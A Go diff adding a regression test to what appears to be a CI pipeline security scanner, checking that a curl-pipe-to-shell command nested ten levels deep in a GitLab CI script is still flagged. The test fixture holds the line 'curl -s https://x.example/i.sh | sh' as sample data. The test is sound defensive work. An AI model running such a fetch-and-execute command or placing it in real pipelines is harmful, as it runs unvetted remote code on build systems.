@@ -63,3 +63,20 @@ func FuzzBounds(f *testing.F) {
 		}
 	})
 }
+
+// TestNestedScriptIsRead: GitLab flattens script lists nested ten deep; a
+// script nested nine deep was skipped (a walk capped at eight) and its
+// curl | sh passed unreported.
+func TestNestedScriptIsRead(t *testing.T) {
+	src := "job:\n  script: " + strings.Repeat("[", 10) + "\"curl -s https://x.example/i.sh | sh\"" + strings.Repeat("]", 10) + "\n"
+	fs, err := pipelines.New().Scan(context.Background(), wholeInput(".gitlab-ci.yml", []byte(src)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, f := range fs {
+		if f.RuleID == "pipelines/curl-pipe-shell" {
+			return
+		}
+	}
+	t.Fatalf("no curl-pipe-shell among %d findings", len(fs))
+}
